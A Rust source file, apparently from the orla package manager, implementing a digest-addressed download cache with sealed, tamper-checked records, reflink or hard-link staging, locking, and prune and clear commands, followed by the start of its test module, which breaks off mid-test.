//! The download cache: packages by the BLAKE3 digest of their archive.
//!
//! - `unpacked/<digest>/`: a package as unpacked from an archive whose
//!   digest matched the registry's record (`tree/`), and its record
//!   (`files.json`): every file's digest, size and mode, every directory,
//!   and where the package root is. There is one way in: the archive is
//!   downloaded, verified and unpacked into a new directory of `tmp/`, its
//!   record written, and the directory renamed to `unpacked/<digest>/`
//!   ([`Cache::put`]). There is one way out: each file is linked (a
//!   reflink where the filesystem has them, else a hard link, else a copy)
//!   into a staging directory and read back there, and its digest, size
//!   and mode compared with the record, before anything is installed
//!   ([`Cache::unpacked_into`]). A file edited anywhere (a hard link shares
//!   it with the installed copies) is caught there, and the entry is thrown
//!   away and the archive downloaded again.
//!
//!   The record is sealed (`verify::seal`) under the user's receipt key,
//!   for the entry's place: only this user's orla, which verified the
//!   archive against the registry's digest, can write a record the cache
//!   believes. Whoever else can write a shared cache directory can replace
//!   files and records, but not make orla install them under the
//!   registry's digest: the entry is refused and downloaded again.
//! - `tmp/`: entries in flight, renamed into place only once verified.

use std::collections::{BTreeMap, HashSet};
use std::fs;
use std::io::{self, Read};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

pub use crate::size::{human_size, parse_size};
use crate::unpack::{safe_path, FileRecord, Unpacked};
use crate::verify::seal::Seal;
use crate::verify::Digest;

/// How long an entry in `tmp/` may go unwritten before it counts as left
/// behind by a killed process.
const STALE_DOWNLOAD: std::time::Duration = std::time::Duration::from_secs(3600);

/// How an entry's record is sealed.
const RECORD: Seal = Seal {
    header: "orla-cache-entry 1 ",
    purpose: b"orla download cache entry\0",
};

/// The most threads a package is linked out of the cache and checked with.
const CHECK_THREADS: usize = 8;

#[derive(Debug, Clone)]
pub struct Cache {
    pub dir: PathBuf,
    /// The user's receipt key (`root::binding`), read (or made) when first
    /// needed: it seals every entry's record. Without one, nothing is
    /// cached.
    key: std::sync::Arc<KeyFile>,
}

impl Cache {
    pub fn new(dir: &Path) -> Cache {
        Cache {
            dir: dir.to_path_buf(),
            key: Default::default(),
        }
    }

    /// The cache, with the user's receipt key at `path`.
    pub fn with_key_file(mut self, path: PathBuf) -> Cache {
        self.key = std::sync::Arc::new(KeyFile {
            path: Some(path),
            ..KeyFile::default()
        });
        self
    }

    fn unpacked(&self) -> PathBuf {
        self.dir.join("unpacked")
    }

    fn unpacked_path(&self, digest: &Digest) -> PathBuf {
        self.unpacked().join(digest.to_string())
    }

    /// Whether the package whose archive has this digest is cached.
    pub fn has(&self, digest: &Digest) -> bool {
        self.unpacked_path(digest).join(FILES).is_file()
    }

    /// Whether the package's entry is there without its record (what a
    /// power cut may leave): it is replaced by the next download.
    pub fn has_without_record(&self, digest: &Digest) -> bool {
        let path = self.unpacked_path(digest);
        path.exists() && !path.join(FILES).is_file()
    }

    /// A new, empty entry in `tmp/`, its tree made: unpack a download into
    /// [`Cache::entry_tree`] of it, then [`Cache::put`] it in place.
    pub fn entry_dir(&self) -> io::Result<tempfile::TempDir> {
        let entry = crate::fs::made_in(&self.dir.join("tmp"), |tmp| {
            tempfile::Builder::new().prefix("unpacked-").tempdir_in(tmp)
        })?;
        fs::create_dir(entry.path().join(TREE))?;
        Ok(entry)
    }

    /// The tree of an entry made by `entry_dir`.
    pub fn entry_tree(entry: &Path) -> PathBuf {
        entry.join(TREE)
    }

    /// Puts the entry `entry` (from `entry_dir`), whose tree holds the
    /// verified unpack `unpacked` of the archive `digest`, in place with
    /// its sealed record; an entry already there (another orla's) is kept.
    ///
    /// Nothing is flushed: an entry a power cut took away or left torn is
    /// found damaged when it is used (its files are read back), removed,
    /// and fetched again; the files installed from it are flushed by the
    /// install.
    pub fn put(
        &self,
        entry: tempfile::TempDir,
        digest: &Digest,
        unpacked: &Unpacked,
    ) -> io::Result<()> {
        let key = self.key.get_or_create()?;
        let path = self.unpacked_path(digest);
        if path.join(FILES).is_file() {
            return Ok(());
        }
        let tree = entry.path().join(TREE);
        let mut dirs = Vec::new();
        list_dirs(&tree, Path::new(""), &mut dirs)?;
        let record = Entry {
            root: slashed(
                unpacked
                    .root
                    .strip_prefix(&tree)
                    .map_err(|_| io::Error::other("the package root is outside its entry"))?,
            )?,
            dirs: dirs.iter().map(|d| slashed(d)).collect::<io::Result<_>>()?,
            files: unpacked.files.clone(),
        };
        let body = serde_json::to_vec(&record).map_err(io::Error::other)?;
        let head = RECORD.head(&key, &path, &body);
        fs::write(entry.path().join(FILES), [head.as_bytes(), &body].concat())?;
        fs::create_dir_all(self.unpacked())?;
        // A damaged entry of the same digest (no record) is replaced.
        let _ = fs::remove_dir_all(&path);
        match fs::rename(entry.path(), &path) {
            Ok(()) => {
                let _ = entry.keep();
                Ok(())
            }
            // Another orla put the same package in place meanwhile.
            Err(_) if path.join(FILES).is_file() => Ok(()),
            Err(e) => Err(e),
        }
    }

    /// Links the cached package of `digest`, if any, into the empty
    /// directory `dest` and checks every file against its record.
    /// `Ok(None)`: nothing cached. `Err`: the entry is damaged or not this
    /// user's (it is removed) or could not be linked; `dest` may hold a
    /// part of it.
    pub fn unpacked_into(&self, digest: &Digest, dest: &Path) -> Result<Option<Unpacked>, Damaged> {
        let path = self.unpacked_path(digest);
        let bytes = match fs::read(path.join(FILES)) {
            Ok(b) => b,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                if !path.exists() {
                    return Ok(None);
                }
                let _ = fs::remove_dir_all(&path);
                return Err(Damaged::Content("its record is missing".into()));
            }
            Err(e) => return Err(Damaged::Io(e)),
        };
        let result = match self.key.get() {
            Some(key) => match RECORD.open(key, &path, &bytes) {
                Some(body) => link_back(&path, body, dest),
                None => Err(Damaged::Content(
                    "its record was not written by this user's orla".into(),
                )),
            },
            None => Err(Damaged::Content(
                "there is no receipt key to check it".into(),
            )),
        };
        match &result {
            Err(Damaged::Content(_)) => {
                let _ = fs::remove_dir_all(&path);
            }
            Err(Damaged::Io(_)) => {}
            Ok(_) => touch(&path.join(FILES)),
        }
        result.map(Some)
    }

    /// Removes the unpacked entry of `digest`, if any (one added for an
    /// install that was then refused).
    pub fn forget_unpacked(&self, digest: &Digest) {
        let _ = fs::remove_dir_all(self.unpacked_path(digest));
    }

    /// Removes what killed processes left of their entries in flight (not
    /// written to for an hour: one in flight keeps it fresh), then `tmp/`
    /// once it is empty.
    pub fn tidy(&self) {
        let dir = self.dir.join("tmp");
        let stale = std::time::SystemTime::now() - STALE_DOWNLOAD;
        if let Ok(entries) = fs::read_dir(&dir) {
            for entry in entries.flatten() {
                let old = entry
                    .metadata()
                    .and_then(|m| m.modified())
                    .is_ok_and(|t| t < stale);
                if old {
                    let _ = fs::remove_dir_all(entry.path());
                    let _ = fs::remove_file(entry.path());
                }
            }
        }
        let _ = fs::remove_dir(dir);
    }
}

/// The tree of an unpacked entry, and its record.
const TREE: &str = "tree";
const FILES: &str = "files.json";

/// Records that an entry was used now (its last use is its record's
/// modification time), for `prune` and the size limit. Best effort.
pub(super) fn touch(path: &Path) {
    if let Ok(file) = fs::OpenOptions::new().write(true).open(path) {
        let _ = file.set_modified(std::time::SystemTime::now());
    }
}

/// What a cached unpack holds (`files.json`, after its seal).
#[derive(Serialize, Deserialize)]
struct Entry {
    /// The package root inside the tree (`""`: the tree itself).
    root: String,
    /// Every directory of the tree, parents first.
    dirs: Vec<String>,
    /// Every file, relative to the package root.
    files: BTreeMap<String, FileRecord>,
}

/// Why a cached unpack was not used.
#[derive(Debug)]
pub enum Damaged {
    /// A file differs from what was verified, or the record is unreadable
    /// or not this user's.
    Content(String),
    /// Linking or copying failed (a full disk, permissions).
    Io(io::Error),
}

impl std::fmt::Display for Damaged {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Damaged::Content(m) => f.write_str(m),
            Damaged::Io(e) => e.fmt(f),
        }
    }
}

/// Links every file the record `body` of the entry at `entry` names into
/// `dest`, and checks each one there.
fn link_back(entry: &Path, body: &[u8], dest: &Path) -> Result<Unpacked, Damaged> {
    let damaged = |m: String| Damaged::Content(m);
    let record: Entry =
        serde_json::from_slice(body).map_err(|e| damaged(format!("{FILES}: {e}")))?;
    // The record names paths as an archive would: checked the same way, so
    // a damaged record cannot reach outside the staging directory.
    let checked = |p: &str| match safe_path(p.as_bytes()) {
        Ok(s) if s == p => Ok(PathBuf::from(p)),
        _ => Err(damaged(format!("{FILES}: unsafe path '{p}'"))),
    };
    let root = checked(&record.root)?;
    for dir in &record.dirs {
        fs::create_dir_all(dest.join(checked(dir)?)).map_err(Damaged::Io)?;
    }
    let files: Vec<(&String, &FileRecord, PathBuf)> = record
        .files
        .iter()
        .map(|(rel, want)| Ok((rel, want, checked(rel)?)))
        .collect::<Result<_, Damaged>>()?;
    let tree = entry.join(TREE).join(&root);
    let to_root = dest.join(&root);
    for (_, _, rel) in &files {
        if let Some(parent) = rel.parent().filter(|p| !p.as_os_str().is_empty()) {
            fs::create_dir_all(to_root.join(parent)).map_err(Damaged::Io)?;
        }
    }
    crate::parallel::try_for_each(&files, CHECK_THREADS, |(rel, want, rel_path)| {
        let to = to_root.join(rel_path);
        link(&tree.join(rel_path), &to).map_err(|e| match e.kind() {
            io::ErrorKind::NotFound => damaged(format!("{rel} is missing")),
            _ => Damaged::Io(e),
        })?;
        // What is checked is what was put in staging: a regular file (not
        // a link swapped in meanwhile), with the recorded bytes and mode.
        match check_file(&to).map_err(Damaged::Io)? {
            None => Err(damaged(format!("{rel} is not a regular file"))),
            Some((got, size, executable))
                if got != want.blake3 || size != want.size || executable != want.executable =>
            {
                Err(damaged(format!("{rel} changed since it was verified")))
            }
            Some(_) => Ok(()),
        }
    })?;
    Ok(Unpacked {
        root: to_root,
        files: record.files,
    })
}

/// The user's receipt key, read from its file once it is there.
#[derive(Default)]
struct KeyFile {
    path: Option<PathBuf>,
    key: std::sync::OnceLock<[u8; 32]>,
    /// Held while the key is made: the threads of one install must not
    /// make it at once.
    making: std::sync::Mutex<()>,
}

impl KeyFile {
    fn get(&self) -> Option<&[u8; 32]> {
        if let Some(key) = self.key.get() {
            return Some(key);
        }
        let key: [u8; 32] = fs::read(self.path.as_ref()?).ok()?.try_into().ok()?;
        Some(self.key.get_or_init(|| key))
    }

    /// The key, made when there is none yet (as the first install makes
    /// it).
    fn get_or_create(&self) -> io::Result<[u8; 32]> {
        if let Some(key) = self.get() {
            return Ok(*key);
        }
        let path = self
            .path
            .as_ref()
            .ok_or_else(|| io::Error::other("no receipt key"))?;
        let _making = self.making.lock().unwrap_or_else(|e| e.into_inner());
        if let Some(key) = self.get() {
            return Ok(*key);
        }
        let key = crate::root::binding::key_or_create(path)?;
        Ok(*self.key.get_or_init(|| key))
    }
}

impl std::fmt::Debug for KeyFile {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Never the key itself.
        f.debug_struct("KeyFile").field("path", &self.path).finish()
    }
}

/// The directories of a tree, parents first.
fn list_dirs(base: &Path, rel: &Path, out: &mut Vec<PathBuf>) -> io::Result<()> {
    for entry in fs::read_dir(base.join(rel))? {
        let entry = entry?;
        if entry.file_type()?.is_dir() {
            let sub = rel.join(entry.file_name());
            out.push(sub.clone());
            list_dirs(base, &sub, out)?;
        }
    }
    Ok(())
}

fn slashed(path: &Path) -> io::Result<String> {
    let parts: Option<Vec<&str>> = path.components().map(|c| c.as_os_str().to_str()).collect();
    parts
        .map(|p| p.join("/"))
        .ok_or_else(|| io::Error::other("a path that is not UTF-8"))
}

/// Puts `from` at `to`: a copy-on-write clone where the filesystem has
/// them (independent files, no data written), else a hard link (the same
/// file under two names), else a copy.
fn link(from: &Path, to: &Path) -> io::Result<()> {
    if reflink(from, to).is_ok() {
        return Ok(());
    }
    let _ = fs::remove_file(to);
    match fs::hard_link(from, to) {
        Ok(()) => Ok(()),
        Err(e)
            if matches!(
                e.kind(),
                io::ErrorKind::AlreadyExists | io::ErrorKind::NotFound
            ) =>
        {
            Err(e)
        }
        Err(_) => fs::copy(from, to).map(drop),
    }
}

#[cfg(target_os = "linux")]
fn reflink(from: &Path, to: &Path) -> io::Result<()> {
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::io::AsRawFd;
    let src = fs::File::open(from)?;
    let mode = src.metadata()?.permissions();
    let dst = fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(0o600)
        .open(to)?;
    // SAFETY: two valid descriptors; FICLONE reads no memory of ours.
    let ok = unsafe { libc::ioctl(dst.as_raw_fd(), libc::FICLONE, src.as_raw_fd()) } == 0;
    if !ok {
        return Err(io::Error::last_os_error());
    }
    dst.set_permissions(mode)
}

#[cfg(not(target_os = "linux"))]
fn reflink(_: &Path, _: &Path) -> io::Result<()> {
    Err(io::Error::from(io::ErrorKind::Unsupported))
}

/// The digest, size and executable bit of the regular file at `path`, read
/// through one descriptor opened without following a symbolic link;
/// `None` for anything but a regular file.
fn check_file(path: &Path) -> io::Result<Option<(Digest, u64, bool)>> {
    let mut options = fs::OpenOptions::new();
    options.read(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK);
    }
    let mut file = match options.open(path) {
        Ok(f) => f,
        #[cfg(unix)]
        Err(e) if e.raw_os_error() == Some(libc::ELOOP) => return Ok(None),
        Err(e) => return Err(e),
    };
    let meta = file.metadata()?;
    if !meta.is_file() {
        return Ok(None);
    }
    #[cfg(unix)]
    let executable = std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o111 != 0;
    #[cfg(not(unix))]
    let executable = false;
    let mut hasher = blake3::Hasher::new();
    let mut buf = vec![0u8; 64 * 1024];
    let mut size = 0u64;
    loop {
        let n = file.read(&mut buf)?;
        if n == 0 {
            break;
        }
        size += n as u64;
        hasher.update(&buf[..n]);
    }
    Ok(Some((Digest::from_hasher(&hasher), size, executable)))
}

/// The cache's lock file. Every install holds it shared from its first
/// look at the cache until its packages are installed (so two installs
/// never wait for each other); `orla cache clear` and `orla cache prune`
/// hold it exclusively, so they never remove an entry an install is
/// linking. It is never removed itself: a second file under the same name
/// would be a second lock.
const LOCK: &str = ".lock";

/// What one removal freed.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct Freed {
    pub entries: usize,
    pub bytes: u64,
}

/// What the cache holds, one removable unit each.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Kind {
    /// `unpacked/<digest>/`: a verified package.
    Package(Digest),
    /// `archives/<digest>.tar.gz`.
    Archive(Digest),
    /// `registries/<name>/` (a git registry's clone and its state) or
    /// `sparse/<name>/` (a sparse index's files), by that name.
    Registry(String),
    /// `git-tools/<name>/`: the repository of git-source tools.
    Repository,
    /// `run/<name>/`: a package `orla run` fetched.
    Run,
}

/// One unit of the cache.
#[derive(Debug, Clone)]
pub struct Item {
    pub kind: Kind,
    /// What removing it deletes (a clone has a state file beside it).
    paths: Vec<PathBuf>,
    /// Its last use: when a package or an archive was last installed from,
    /// when a registry was last fetched, when a repository last changed.
    pub last_used: std::time::SystemTime,
    /// The bytes removing it frees. A package's files that an installed
    /// package shares (a hard link) free nothing and do not count.
    pub size: u64,
    /// Whether an installed package shares its files (a hard link): such
    /// an entry costs next to no space and makes reinstalls fast.
    pub linked: bool,
}

/// What `Cache::prune` removes.
pub struct PruneRules {
    /// Entries not used for this long (zero: whatever age).
    pub max_age: std::time::Duration,
    /// The names (as in `Kind::Registry`) of the registries configured
    /// where prune runs: their clones are kept whatever their age. `None`:
    /// every clone is kept.
    pub configured: Option<HashSet<String>>,
}

impl Cache {
    fn lock_path(&self) -> PathBuf {
        self.dir.join(LOCK)
    }

    /// Takes the cache's lock (see `LOCK`), saying so while it waits.
    pub fn lock(
        &self,
        kind: crate::lock::LockKind,
        reporter: &dyn crate::progress::Reporter,
    ) -> io::Result<crate::lock::FileLock> {
        crate::lock::FileLock::acquire(&self.lock_path(), kind, "the cache", reporter)
    }

    /// The exclusive lock, only if nobody holds the lock now.
    pub fn try_lock_exclusive(&self) -> Option<fs::File> {
        let file = fs::OpenOptions::new()
            .read(true)
            .write(true)
            .create(true)
            .truncate(false)
            .open(self.lock_path())
            .ok()?;
        file.try_lock().ok()?;
        Some(file)
    }

    /// Whether `path` is the lock file (`cache clear` keeps it).
    pub fn is_lock(&self, path: &Path) -> bool {
        path == self.lock_path()
    }

    /// `orla cache clear`: removes everything but the lock files, holding
    /// the lock exclusively; returns the bytes removed. A git repository
    /// (a registry's clone, or git-source tools') is removed holding its
    /// own lock too, which a fetch into it holds without the cache's: it
    /// waits for the fetch, saying so.
    pub fn clear(&self, reporter: &dyn crate::progress::Reporter) -> Result<u64, CacheError> {
        let _lock = self.lock_exclusively(reporter)?;
        let entries = fs::read_dir(&self.dir).map_err(|source| CacheError::Read {
            dir: self.dir.clone(),
            source,
        })?;
        let mut bytes = 0;
        for dir in REPOSITORIES {
            bytes += self.clear_repositories(&self.dir.join(dir), reporter)?;
        }
        for entry in entries.flatten() {
            let path = entry.path();
            if self.is_lock(&path) || REPOSITORIES.iter().any(|dir| path == self.dir.join(dir)) {
                continue;
            }
            bytes += remove_counted(&path).map_err(|source| CacheError::Remove { path, source })?;
        }
        Ok(bytes)
    }

    /// Removes every repository in `dir` (and what else is there) but the
    /// lock files, each repository holding its lock; returns the bytes
    /// removed.
    fn clear_repositories(
        &self,
        dir: &Path,
        reporter: &dyn crate::progress::Reporter,
    ) -> Result<u64, CacheError> {
        let entries = match fs::read_dir(dir) {
            Ok(entries) => entries,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(0),
            Err(source) => {
                return Err(CacheError::Read {
                    dir: dir.to_path_buf(),
                    source,
                })
            }
        };
        let mut bytes = 0;
        for entry in entries.flatten() {
            let path = entry.path();
            if path.extension().is_some_and(|e| e == "lock") {
                continue;
            }
            let _held = repository_lock(&path, reporter).map_err(|source| CacheError::Remove {
                path: path.clone(),
                source,
            })?;
            bytes += match remove_counted(&path) {
                Err(e) if e.kind() == io::ErrorKind::NotFound => 0,
                removed => removed.map_err(|source| CacheError::Remove { path, source })?,
            };
        }
        Ok(bytes)
    }

    /// `orla cache prune`: holding the lock exclusively, removes what
    /// `rules` find unused, then the least recently used entries beyond
    /// `max_size`; returns what was freed and the size left.
    pub fn prune_now(
        &self,
        rules: &PruneRules,
        max_size: Option<u64>,
        reporter: &dyn crate::progress::Reporter,
    ) -> Result<(Freed, u64), CacheError> {
        let _lock = self.lock_exclusively(reporter)?;
        let failed = |source| CacheError::Prune {
            dir: self.dir.clone(),
            source,
        };
        let mut freed = self.prune(rules).map_err(failed)?;
        if let Some(max_size) = max_size {
            let trimmed = self.trim(max_size, &HashSet::new()).map_err(failed)?;
            freed.entries += trimmed.entries;
            freed.bytes += trimmed.bytes;
        }
        let left = self.items().iter().map(|i| i.size).sum();
        Ok((freed, left))
    }

    fn lock_exclusively(
        &self,
        reporter: &dyn crate::progress::Reporter,
    ) -> Result<crate::lock::FileLock, CacheError> {
        self.lock(crate::lock::LockKind::Exclusive, reporter)
            .map_err(|source| CacheError::Lock {
                dir: self.dir.clone(),
                source,
            })
    }

    /// Every removable unit of the cache. Anything else in it (the lock,
    /// downloads in flight, files another tool put there) is not listed.
    pub fn items(&self) -> Vec<Item> {
        let mut out = Vec::new();
        let each = |dir: &str| {
            fs::read_dir(self.dir.join(dir))
                .map(|d| d.flatten().map(|e| e.path()).collect::<Vec<_>>())
                .unwrap_or_default()
        };
        for path in each("unpacked") {
            let name = path.file_name().unwrap_or_default().to_string_lossy();
            let Ok(digest) = name.parse::<Digest>() else {
                continue;
            };
            let (size, linked) = tree_size(&path, true);
            let last_used = modified(&path.join(FILES)).or_else(|| modified(&path));
            out.push(item(
                Kind::Package(digest),
                vec![path],
                last_used,
                size,
                linked,
            ));
        }
        for path in each("archives") {
            let name = path.file_name().unwrap_or_default().to_string_lossy();
            let Some(Ok(digest)) = name.strip_suffix(".tar.gz").map(str::parse::<Digest>) else {
                continue;
            };
            let size = fs::symlink_metadata(&path).map(|m| m.len()).unwrap_or(0);
            out.push(item(
                Kind::Archive(digest),
                vec![path.clone()],
                modified(&path),
                size,
                false,
            ));
        }
        for dir in ["registries", "sparse"] {
            for path in each(dir) {
                if !path.is_dir() || path.is_symlink() {
                    continue;
                }
                let name = path
                    .file_name()
                    .unwrap_or_default()
                    .to_string_lossy()
                    .into_owned();
                let state = path.with_extension("state.json");
                let last_used = [modified(&path), modified(&state)]
                    .into_iter()
                    .flatten()
                    .max();
                let mut paths = vec![path.clone()];
                let mut size = tree_size(&path, false).0;
                if state.is_file() {
                    size += fs::metadata(&state).map(|m| m.len()).unwrap_or(0);
                    paths.push(state);
                }
                out.push(item(Kind::Registry(name), paths, last_used, size, false));
            }
        }
        for (dir, kind) in [("git-tools", Kind::Repository), ("run", Kind::Run)] {
            for path in each(dir) {
                if !path.is_dir() || path.is_symlink() {
                    continue;
                }
                let size = tree_size(&path, false).0;
                let last_used = newest(&path);
                out.push(item(kind.clone(), vec![path], last_used, size, false));
            }
        }
        out
    }

    /// Removes what is old and unneeded (see docs/cache.md): packages no
    /// installed package shares and archives, not used for `max_age`; clones
    /// of registries not configured here and repositories, not used for
    /// `max_age`; and what killed processes left behind. Call it under the
    /// exclusive lock.
    pub fn prune(&self, rules: &PruneRules) -> io::Result<Freed> {
        let now = std::time::SystemTime::now();
        let old = |item: &Item| {
            now.duration_since(item.last_used)
                .is_ok_and(|age| age >= rules.max_age)
        };
        let mut freed = Freed::default();
        for item in self.items() {
            let remove = old(&item)
                && match &item.kind {
                    Kind::Package(_) => !item.linked,
                    Kind::Registry(name) => {
                        rules.configured.as_ref().is_some_and(|c| !c.contains(name))
                    }
                    Kind::Archive(_) | Kind::Repository | Kind::Run => true,
                };
            if remove {
                self.remove(&item)?;
                freed.entries += 1;
                freed.bytes += item.size;
            }
        }
        self.tidy();
        Ok(freed)
    }

    /// Removes the least recently used packages and archives until those
    /// left take at most `max_size` bytes; never those in `keep` (the ones
    /// the current command installs) nor those an install shares (removing
    /// them would free next to nothing). Call it under the exclusive lock.
    pub fn trim(&self, max_size: u64, keep: &HashSet<Digest>) -> io::Result<Freed> {
        let mut items: Vec<Item> = self
            .items()
            .into_iter()
            .filter(|i| matches!(i.kind, Kind::Package(_) | Kind::Archive(_)))
            .collect();
        let mut total: u64 = items.iter().map(|i| i.size).sum();
        items.retain(|i| match &i.kind {
            // A package an install shares frees next to nothing.
            Kind::Package(d) | Kind::Archive(d) => !keep.contains(d) && !i.linked,
            _ => false,
        });
        items.sort_by_key(|i| i.last_used);
        let mut freed = Freed::default();
        for item in items {
            if total <= max_size {
                break;
            }
            self.remove(&item)?;
            total -= item.size;
            freed.entries += 1;
            freed.bytes += item.size;
        }
        Ok(freed)
    }

    /// Removes one unit. A package is first renamed out of `unpacked/`, so
    /// a removal killed part way leaves no half entry under its digest
    /// (`tidy` removes the rest later).
    fn remove(&self, item: &Item) -> io::Result<()> {
        // A fetch into a repository holds its lock, not the cache's.
        let _held = match (&item.kind, item.paths.first()) {
            (Kind::Registry(_) | Kind::Repository, Some(path)) => {
                repository_lock(path, &crate::progress::Silent)?
            }
            _ => None,
        };
        for path in &item.paths {
            let meta = match fs::symlink_metadata(path) {
                Ok(m) => m,
                Err(e) if e.kind() == io::ErrorKind::NotFound => continue,
                Err(e) => return Err(e),
            };
            if !meta.is_dir() {
                fs::remove_file(path)?;
                continue;
            }
            let doomed = if matches!(item.kind, Kind::Package(_)) {
                let aside = self.entry_dir()?.keep();
                let doomed = aside.join("old");
                fs::rename(path, &doomed)?;
                aside
            } else {
                path.clone()
            };
            fs::remove_dir_all(&doomed)?;
        }
        Ok(())
    }
}

/// Removes the file or tree at `path`; returns the bytes it held.
fn remove_counted(path: &Path) -> io::Result<u64> {
    let meta = fs::symlink_metadata(path)?;
    if meta.is_dir() {
        let bytes = tree_size(path, false).0;
        fs::remove_dir_all(path)?;
        Ok(bytes)
    } else {
        fs::remove_file(path)?;
        Ok(meta.len())
    }
}

/// The cache's directories of git repositories, each `<name>/` beside its
/// `<name>.lock`, which whoever fetches into it holds.
const REPOSITORIES: [&str; 2] = ["registries", "git-tools"];

/// The lock of the repository (or its state file) at `path`, held, when it
/// has one; waits for a fetch into it to end.
fn repository_lock(
    path: &Path,
    reporter: &dyn crate::progress::Reporter,
) -> io::Result<Option<crate::lock::FileLock>> {
    let name = path.file_name().unwrap_or_default().to_string_lossy();
    let repository = name.strip_suffix(".state.json").unwrap_or(&name);
    let lock = path.with_file_name(format!("{repository}.lock"));
    if !lock.is_file() {
        return Ok(None);
    }
    let what = "a git repository in the cache";
    crate::lock::FileLock::acquire(&lock, crate::lock::LockKind::Exclusive, what, reporter)
        .map(Some)
}

fn item(
    kind: Kind,
    paths: Vec<PathBuf>,
    last_used: Option<std::time::SystemTime>,
    size: u64,
    linked: bool,
) -> Item {
    Item {
        kind,
        paths,
        last_used: last_used.unwrap_or(std::time::UNIX_EPOCH),
        size,
        linked,
    }
}

fn modified(path: &Path) -> Option<std::time::SystemTime> {
    fs::symlink_metadata(path).and_then(|m| m.modified()).ok()
}

/// The newest modification time in a tree (a repository's last change).
fn newest(path: &Path) -> Option<std::time::SystemTime> {
    let mut best = modified(path);
    if let Ok(entries) = fs::read_dir(path) {
        for entry in entries.flatten() {
            let sub = if entry.file_type().is_ok_and(|t| t.is_dir()) {
                newest(&entry.path())
            } else {
                modified(&entry.path())
            };
            best = best.max(sub);
        }
    }
    best
}

/// The bytes of the files in a tree and whether any of them has another
/// name outside it. With `shared_free`, a file with another name counts
/// nothing: removing this name frees none of its bytes.
fn tree_size(path: &Path, shared_free: bool) -> (u64, bool) {
    let (mut size, mut linked) = (0, false);
    let Ok(entries) = fs::read_dir(path) else {
        return (0, false);
    };
    for entry in entries.flatten() {
        let Ok(meta) = entry.metadata() else {
            continue;
        };
        if meta.is_dir() {
            let (s, l) = tree_size(&entry.path(), shared_free);
            size += s;
            linked |= l;
        } else {
            #[cfg(unix)]
            let shared = {
                use std::os::unix::fs::MetadataExt;
                meta.nlink() > 1
            };
            #[cfg(not(unix))]
            let shared = false;
            linked |= shared;
            if !(shared && shared_free) {
                size += meta.len();
            }
        }
    }
    (size, linked)
}

/// Why `orla cache clear` or `prune` failed.
#[derive(Debug, thiserror::Error)]
pub enum CacheError {
    #[error("cannot lock the cache {}: {source}", dir.display())]
    Lock { dir: PathBuf, source: io::Error },
    #[error("cannot read {}: {source}", dir.display())]
    Read { dir: PathBuf, source: io::Error },
    #[error("cannot remove {}: {source}", path.display())]
    Remove { path: PathBuf, source: io::Error },
    #[error("cannot prune {}: {source}", dir.display())]
    Prune { dir: PathBuf, source: io::Error },
}

impl CacheError {
    pub fn hint(&self) -> Option<String> {
        Some(match self {
            CacheError::Lock { dir, .. } => format!(
                "check that you may write to {}, or set ORLA_CACHE_DIR to another directory",
                dir.display()
            ),
            CacheError::Read { dir, .. } => format!(
                "check that you may read {}, or set ORLA_CACHE_DIR to another directory",
                dir.display()
            ),
            CacheError::Remove { .. } | CacheError::Prune { .. } => {
                "check the permissions of the cache directory (ORLA_CACHE_DIR)".into()
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A cache whose receipt key is at `tmp/home/receipt.key`.
    fn keyed(tmp: &Path) -> Cache {
        Cache::new(&tmp.join("cache")).with_key_file(tmp.join("home/receipt.key"))
    }

    /// A package unpacked into a new entry of `cache` (its root wrapped in
    /// `pkg-1.0.0/`, with an empty directory), as a download leaves it.
    fn unpacked_entry(cache: &Cache) -> (tempfile::TempDir, Unpacked) {
        let entry = cache.entry_dir().unwrap();
        let root = Cache::entry_tree(entry.path()).join("pkg-1.0.0");
        fs::create_dir_all(root.join("bin")).unwrap();
        fs::create_dir_all(root.join("empty")).unwrap();
        fs::write(root.join("tool.yaml"), "name: pkg\n").unwrap();
        fs::write(root.join("bin/run"), "#!/bin/sh\n").unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            fs::set_permissions(root.join("bin/run"), fs::Permissions::from_mode(0o755)).unwrap();
        }
        let record = |body: &[u8], executable| FileRecord {
            blake3: Digest::of(body),
            size: body.len() as u64,
            executable,
        };
        let mut files = BTreeMap::new();
        files.insert("tool.yaml".to_string(), record(b"name: pkg\n", false));
        files.insert("bin/run".to_string(), record(b"#!/bin/sh\n", true));
        (entry, Unpacked { root, files })
    }

    /// An entry put in place as the unpack of `digest`.
    fn cached(cache: &Cache, digest: &Digest) -> Unpacked {
        let (entry, unpacked) = unpacked_entry(cache);
        cache.put(entry, digest, &unpacked).unwrap();
        unpacked
    }

    fn link_out(cache: &Cache, digest: &Digest, tmp: &Path) -> Result<Option<Unpacked>, Damaged> {
        let dest = tempfile::tempdir_in(tmp).unwrap().keep();
        cache.unpacked_into(digest, &dest)
    }

    fn assert_damaged_and_dropped(cache: &Cache, digest: &Digest, tmp: &Path) {
        match link_out(cache, digest, tmp) {
            Err(Damaged::Content(_)) => {}
            other => panic!(
                "not refused as damaged: {:?}",
                other.map(|u| u.map(|u| u.root))
            ),
        }
        assert!(!cache.has(digest), "the damaged entry is removed");
    }

    #[test]
    fn a_package_goes_in_once_and_out_checked() {
        let tmp = tempfile::tempdir().unwrap();
        let cache = keyed(tmp.path());
        let digest = Digest::of(b"the archive");
        assert!(!cache.has(&digest));
        let unpacked = cached(&cache, &digest);
        assert!(cache.has(&digest));
        assert!(
            tmp.path().join("home/receipt.key").is_file(),
            "the key is made"
        );
        let dest = tmp.path().join("again");
        fs::create_dir(&dest).unwrap();
        let back = cache.unpacked_into(&digest, &dest).unwrap().unwrap();
        assert_eq!(back.root, dest.join("pkg-1.0.0"));
        assert_eq!(back.files, unpacked.files);
        assert!(
